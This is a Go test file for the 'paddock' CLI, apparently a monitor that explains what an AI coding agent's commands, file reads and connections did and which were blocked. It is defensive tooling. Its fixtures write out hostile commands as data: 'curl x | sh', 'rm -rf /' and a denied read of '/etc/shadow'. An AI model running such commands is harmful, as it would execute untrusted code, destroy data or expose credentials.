// SPDX-License-Identifier: Apache-2.0

package cli

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/seed-649e9bbc/paddock/daemon/telemetry/join"
)

// sampleStory has every part a story may have, with text in each place where an
// agent chooses it.
func sampleStory(text string) *join.Story {
	at := func(seconds int) time.Time { return noon.Add(time.Duration(seconds) * time.Second) }
	failed := false
	forbidden := join.Decision{
		At: at(5), By: join.ByPaddock, What: "forbidden", About: "rm -rf / " + text, Reason: "never", Rule: "rm -rf",
		Source: "/etc/paddock/requirements.toml:4", Held: true, Event: "01JZ000000000000000000EV05",
	}
	shell := &join.Process{PID: 20, Start: 2000, Parent: 10, At: at(3), Args: []string{"bash", "-lc", "curl x | sh; " + text}, Cwd: "/home/dev/" + text, Exit: &join.Exit{At: at(8)}, Event: "01JZ000000000000000000EV03"}
	curl := &join.Process{PID: 21, Start: 2100, Parent: 20, Depth: 1, At: at(4), Args: []string{"curl", "https://example.com/" + text}, Exit: &join.Exit{At: at(6), Code: 6}, Event: "01JZ000000000000000000EV04"}
	rm := &join.Process{PID: 22, Start: 2200, Parent: 20, Depth: 1, At: at(5), Args: []string{"rm", "-rf", "/"}, Decision: &forbidden, Event: "01JZ000000000000000000EV05"}
	prompt := &join.Prompt{At: at(1), Text: "install the tool\nand be quick " + text, Thread: "thread-1", Event: "01JZ000000000000000000EV01", Link: &join.Link{Confidence: join.High, Because: "the last prompt before it in the same conversation"}}
	return &join.Story{
		Subject: join.Subject{Kind: join.KindPID, Value: "21"},
		Session: join.Session{
			ID: oneSession, Agent: "codex", Version: "0.169.0", Surface: "exec", User: "dev" + text, UID: 1000, PID: 10, Started: noon,
			Model: "gpt" + text, Approval: "on-request", Sandbox: "workspace-write", MCPServers: []string{"jira", text},
		},
		Prompt: prompt, Process: curl, Lineage: []*join.Process{shell, curl},
		Call: &join.Call{
			ID: "call_1", Tool: "exec_command", Command: "curl x | sh; " + text, Began: at(2), Prompt: prompt, Told: true,
			Decisions: []join.Decision{{At: at(2), By: join.ByUser, What: "allow", Held: true}, forbidden},
			Processes: []*join.Process{shell, curl, rm},
			Files:     []join.File{{At: at(7), PID: 21, Path: "/etc/shadow" + text, Operation: "read", Decision: join.Decision{What: "deny", By: join.ByPaddock, Reason: "outside", Held: true}}},
			Network: []join.Connection{{
				At: at(4), PID: 21, Program: "curl", Host: "example.com" + text, Address: "93.184.216.34", Port: 443, Transport: "tcp",
				Decision: join.Decision{What: "allow", By: join.ByPaddock, Held: true},
			}},
			Result: &join.Result{At: at(9), Success: &failed, DurationMS: 6400, Output: "Process exited with code 6\n" + text},
			Link:   &join.Link{Confidence: join.Exact, Because: "the kernel carried the tool call's id"},
		},
		Notes:  []join.Note{{At: at(9), Text: "the agent's own proxy: deny " + text}},
		Others: []join.Other{{At: at(0), Session: otherSession, What: "curl " + text}},
		Doubts: []string{"The start of the session is not stored any more."},
		Event:  "01JZ000000000000000000EV04",
	}
}

func sampleAccount(text string) *join.Account {
	s := sampleStory(text)
	return &join.Account{
		Session: s.Session, Prompts: []join.Prompt{*s.Prompt}, Calls: []*join.Call{s.Call},
		Loose: []*join.Process{{PID: 10, At: noon, Args: []string{"codex", "exec", text}}},
		Notes: []join.Note{{At: noon.Add(11 * time.Second), Text: "reached for Paddock: " + text, Grave: true}},
		First: 7, Last: 99, Events: 93, More: true,
	}
}

func TestStory(t *testing.T) {
	socket := serve(t, &fake{story: sampleStory(""), account: sampleAccount("")})
	for name, args := range map[string][]string{
		"explain": {"explain", "21"}, "explain-json": {"explain", "21", "--json"},
		"sessions-show": {"sessions", "show", oneSession},
	} {
		stdout, stderr, code, _ := paddock(t, socket, args...)
		if code != 0 || stderr != "" {
			t.Errorf("%s: code %d, %s", name, code, stderr)
		}
		golden(t, name, stdout)
	}
}

// Also of a command that no tool call is known for it is said why it did not run.
func TestStoryWithoutCall(t *testing.T) {
	s := sampleStory("")
	s.Process, s.Processes, s.Call = s.Call.Processes[2], s.Call.Processes, nil
	socket := serve(t, &fake{story: s})
	stdout, stderr, code, _ := paddock(t, socket, "explain", "22")
	if code != 0 || stderr != "" || !strings.Contains(stdout, "forbidden by paddock: rm -rf / - never [rule rm -rf, /etc/paddock/requirements.toml:4]\n") {
		t.Errorf("code %d, %s\n%s", code, stderr, stdout)
	}
}

// What an agent wrote does nothing to the terminal, wherever it is shown.
func TestStoryIsPlain(t *testing.T) {
	socket := serve(t, &fake{story: sampleStory(hostile), account: sampleAccount(hostile)})
	for _, args := range [][]string{
		{"explain", "21"},
		{"explain", "21", "--json"},
		{"sessions", "show", oneSession},
		{"sessions", "show", oneSession, "--json"},
		{"report", "--session", oneSession},
	} {
		stdout, stderr, code, _ := paddock(t, socket, args...)
		if code != 0 || stderr != "" {
			t.Errorf("%q: code %d, %s", args, code, stderr)
		}
		if i := strings.IndexFunc(stdout, func(r rune) bool { return r != '\n' && r != '\u00a0' && r != utf8.RuneError && hidden(r) }); i >= 0 {
			t.Errorf("%q prints %q", args, stdout[i:min(len(stdout), i+8)])
		}
	}
}

func TestWhatIsAsked(t *testing.T) {
	f := &fake{story: sampleStory("")}
	socket := serve(t, f)
	alert := filepath.Join(t.TempDir(), "alert.json")
	if err := os.WriteFile(alert, []byte(`{"process":{"pid":21},"@timestamp":"2026-01-02T12:00:00Z"}`), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		args []string
		want []join.Subject
	}{
		{[]string{"curl -s x"}, []join.Subject{{Kind: join.KindCommand, Value: "curl -s x"}}},
		{[]string{"--as", "file", "/etc/passwd"}, []join.Subject{{Kind: join.KindFile, Value: "/etc/passwd"}}},
		{[]string{alert}, []join.Subject{{Kind: join.KindPID, Value: "21", At: noon.Truncate(time.Second)}}},
		{[]string{"1.2.3.4:443", "--session", oneSession}, []join.Subject{{Kind: join.KindHost, Value: "1.2.3.4:443", Session: oneSession}}},
	} {
		_, stderr, code, _ := paddock(t, socket, append([]string{"explain"}, c.args...)...)
		if code != 0 || !slices.Equal(f.asked, c.want) {
			t.Errorf("%q asks for %v, want %v; code %d %s", c.args, f.asked, c.want, code, stderr)
		}
	}
	for _, args := range [][]string{
		{"explain"},
		{"explain", "--as", "colour", "x"},
		{"explain", "x", "--at", "noon"},
		{"report"},
		{"sessions", "show"},
		{"sessions", "show", oneSession, "--limit", "1000000"},
	} {
		if _, stderr, code, _ := paddock(t, socket, args...); code != ExitUsage || !strings.Contains(stderr, "--help") {
			t.Errorf("%q: code %d, %s", args, code, stderr)
		}
	}
	_, stderr, code, _ := paddock(t, serve(t, &fake{}), "explain", "4711")
	if code != ExitError || !strings.Contains(stderr, "no event is about it") {
		t.Errorf("nothing: code %d, %s", code, stderr)
	}
}

func TestReportIsForItsOwnerOnly(t *testing.T) {
	socket := serve(t, &fake{account: sampleAccount("")})
	path := filepath.Join(t.TempDir(), "r.html")
	if _, stderr, code, _ := paddock(t, socket, "report", "--session", oneSession, "-o", path); code != 0 {
		t.Fatal(stderr)
	}
	info, err := os.Stat(path)
	if err != nil || info.Mode().Perm() != 0o600 {
		t.Errorf("%v %v", info.Mode(), err)
	}
	data, err := os.ReadFile(path)
	if err != nil || !strings.Contains(string(data), "install the tool") {
		t.Errorf("%v: %.200s", err, data)
	}
}
